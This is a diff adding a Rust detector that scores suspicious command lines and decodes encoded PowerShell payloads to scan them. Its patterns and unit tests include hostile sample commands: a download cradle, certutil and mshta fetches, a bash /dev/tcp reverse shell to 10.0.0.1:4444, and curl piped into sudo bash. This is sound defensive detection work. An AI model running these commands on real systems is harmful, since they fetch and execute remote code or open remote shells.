@@ -0,0 +1,241 @@
+//! Command-line heuristics for living-off-the-land binaries and encoded
+//! scripts. PowerShell `-EncodedCommand` payloads are decoded and run through
+//! the same patterns, so a download cradle hidden in base64 is still reported.
+
+use std::sync::OnceLock;
+
+use base64::alphabet;
+use base64::engine::general_purpose::{GeneralPurpose, GeneralPurposeConfig};
+use base64::engine::DecodePaddingMode;
+use base64::Engine;
+use regex::Regex;
+
+const ENCODED_COMMAND_WEIGHT: u8 = 30;
+const MAX_SNIPPET_CHARS: usize = 160;
+const MAX_PAYLOAD_CHARS: usize = 4096;
+/// Standard alphabet that, like PowerShell, takes payloads with or without
+/// `=` padding and with non-zero trailing bits.
+const BASE64: GeneralPurpose = GeneralPurpose::new(
+    &alphabet::STANDARD,
+    GeneralPurposeConfig::new()
+        .with_decode_padding_mode(DecodePaddingMode::Indifferent)
+        .with_decode_allow_trailing_bits(true),
+);
+
+pub struct CmdlineIndicator {
+    pub id: &'static str,
+    pub weight: u8,
+    pub reason: &'static str,
+    pub matched: String,
+    pub in_payload: bool,
+}
+
+#[derive(Default)]
+pub struct CmdlineAnalysis {
+    pub indicators: Vec<CmdlineIndicator>,
+    pub decoded_payload: Option<String>,
+}
+
+struct Pattern {
+    id: &'static str,
+    weight: u8,
+    reason: &'static str,
+    regex: Regex,
+}
+
+const PATTERNS: &[(&str, u8, &str, &str)] = &[
+    (
+        "download-cradle",
+        35,
+        "Command line fetches remote content with a download cradle",
+        r"(?i)\b(?:net\.webclient|downloadstring|downloaddata|downloadfile|invoke-webrequest|invoke-restmethod|start-bitstransfer)\b|\b(?:iwr|irm)\s+['\x22]?https?://",
+    ),
+    (
+        "certutil-urlcache",
+        40,
+        "certutil used to download a file (-urlcache)",
+        r"(?i)\bcertutil(?:\.exe)?\b.*[-/]urlcache\b",
+    ),
+    (
+        "rundll32-javascript",
+        50,
+        "rundll32 executing inline JavaScript",
+        r"(?i)\brundll32(?:\.exe)?\b.*\bjavascript:",
+    ),
+    (
+        "mshta-remote",
+        45,
+        "mshta loading a remote or inline script",
+        r"(?i)\bmshta(?:\.exe)?['\x22]?\s+['\x22]?(?:https?|javascript|vbscript):",
+    ),
+    (
+        "bash-dev-tcp",
+        60,
+        "Interactive shell redirected to a /dev/tcp socket (reverse shell)",
+        r"(?i)\bbash\s+-i\b.*/dev/(?:tcp|udp)/",
+    ),
+    (
+        "curl-pipe-shell",
+        45,
+        "Remote script piped straight into a shell",
+        r"(?i)\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|da|z|k)?sh\b",
+    ),
+];
+
+fn patterns() -> &'static [Pattern] {
+    static COMPILED: OnceLock<Vec<Pattern>> = OnceLock::new();
+    COMPILED.get_or_init(|| {
+        PATTERNS
+            .iter()
+            .map(|(id, weight, reason, pattern)| Pattern {
+                id,
+                weight: *weight,
+                reason,
+                regex: Regex::new(pattern).expect("valid cmdline pattern"),
+            })
+            .collect()
+    })
+}
+
+fn encoded_command_regex() -> &'static Regex {
+    static COMPILED: OnceLock<Regex> = OnceLock::new();
+    COMPILED.get_or_init(|| {
+        Regex::new(r#"(?i)(?:^|\s)[-/](e[a-z]*)\s+['"]?([A-Za-z0-9+/]{8,}={0,2})"#)
+            .expect("valid encoded command pattern")
+    })
+}
+
+pub fn analyze(cmdline: &str) -> CmdlineAnalysis {
+    let mut analysis = CmdlineAnalysis::default();
+    collect_indicators(cmdline, false, &mut analysis.indicators);
+
+    let lower = cmdline.to_lowercase();
+    if !lower.contains("powershell") && !lower.contains("pwsh") {
+        return analysis;
+    }
+    let encoded = encoded_command_regex().captures_iter(cmdline).find(|captures| {
+        let flag = captures[1].to_lowercase();
+        flag == "ec" || "encodedcommand".starts_with(&flag)
+    });
+    let Some(captures) = encoded else {
+        return analysis;
+    };
+
+    analysis.indicators.push(CmdlineIndicator {
+        id: "powershell-encoded",
+        weight: ENCODED_COMMAND_WEIGHT,
+        reason: "PowerShell launched with an encoded command",
+        matched: truncate(&captures[0], MAX_SNIPPET_CHARS),
+        in_payload: false,
+    });
+    if let Some(payload) = decode_powershell_payload(&captures[2]) {
+        collect_indicators(&payload, true, &mut analysis.indicators);
+        analysis.decoded_payload = Some(truncate(&payload, MAX_PAYLOAD_CHARS));
+    }
+    analysis
+}
+
+fn collect_indicators(text: &str, in_payload: bool, out: &mut Vec<CmdlineIndicator>) {
+    for pattern in patterns() {
+        if out.iter().any(|existing| existing.id == pattern.id) {
+            continue;
+        }
+        if let Some(found) = pattern.regex.find(text) {
+            out.push(CmdlineIndicator {
+                id: pattern.id,
+                weight: pattern.weight,
+                reason: pattern.reason,
+                matched: truncate(found.as_str(), MAX_SNIPPET_CHARS),
+                in_payload,
+            });
+        }
+    }
+}
+
+fn truncate(text: &str, limit: usize) -> String {
+    let trimmed = text.trim();
+    if trimmed.chars().count() <= limit {
+        return trimmed.to_string();
+    }
+    let mut cut: String = trimmed.chars().take(limit).collect();
+    cut.push('…');
+    cut
+}
+
+/// `-EncodedCommand` carries base64 of UTF-16LE text.
+fn decode_powershell_payload(encoded: &str) -> Option<String> {
+    let bytes = BASE64.decode(encoded).ok()?;
+    if bytes.len() % 2 != 0 {
+        return None;
+    }
+    let units: Vec<u16> = bytes
+        .chunks_exact(2)
+        .map(|pair| u16::from_le_bytes([pair[0], pair[1]]))
+        .collect();
+    let text = String::from_utf16(&units).ok()?;
+    let printable = text
+        .chars()
+        .all(|ch| !ch.is_control() || ch.is_whitespace());
+    printable.then_some(text)
+}
+
+#[cfg(test)]
+mod tests {
+    use base64::engine::general_purpose::STANDARD;
+    use base64::Engine;
+
+    use super::analyze;
+
+    fn ids(cmdline: &str) -> Vec<&'static str> {
+        analyze(cmdline)
+            .indicators
+            .iter()
+            .map(|indicator| indicator.id)
+            .collect()
+    }
+
+    #[test]
+    fn decodes_encoded_powershell_and_inspects_payload() {
+        let script = "IEX (New-Object Net.WebClient).DownloadString('http://x/a')";
+        let utf16: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
+        let encoded = STANDARD.encode(&utf16);
+
+        for flag in ["-enc", "-EncodedCommand", "/e", "-ec"] {
+            let analysis = analyze(&format!("powershell.exe -NoP -W Hidden {flag} {encoded}"));
+            assert_eq!(analysis.decoded_payload.as_deref(), Some(script), "{flag}");
+            let found: Vec<(&str, bool)> = analysis
+                .indicators
+                .iter()
+                .map(|indicator| (indicator.id, indicator.in_payload))
+                .collect();
+            assert_eq!(
+                found,
+                vec![("powershell-encoded", false), ("download-cradle", true)]
+            );
+        }
+
+        let unpadded = encoded.trim_end_matches('=');
+        assert_ne!(unpadded, encoded);
+        let analysis = analyze(&format!("powershell.exe -enc {unpadded}"));
+        assert_eq!(analysis.decoded_payload.as_deref(), Some(script));
+
+        assert!(ids(&format!("powershell.exe -ExecutionPolicy Bypass {encoded}")).is_empty());
+    }
+
+    #[test]
+    fn recognises_lolbin_and_shell_patterns() {
+        assert_eq!(
+            ids("certutil.exe -urlcache -split -f http://x/p.exe p.exe"),
+            vec!["certutil-urlcache"]
+        );
+        assert_eq!(
+            ids(r#"rundll32.exe javascript:"\..\mshtml,RunHTMLApplication ";alert(1)"#),
+            vec!["rundll32-javascript"]
+        );
+        assert_eq!(ids("mshta http://evil/x.hta"), vec!["mshta-remote"]);
+        assert_eq!(ids("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"), vec!["bash-dev-tcp"]);
+        assert_eq!(ids("curl -fsSL https://x.sh | sudo bash"), vec!["curl-pipe-shell"]);
+        assert!(ids("curl -o out.tar.gz https://example.com/a.tar.gz").is_empty());
+        assert!(ids("C:\\Windows\\System32\\svchost.exe -k netsvcs -p").is_empty());
+    }
+}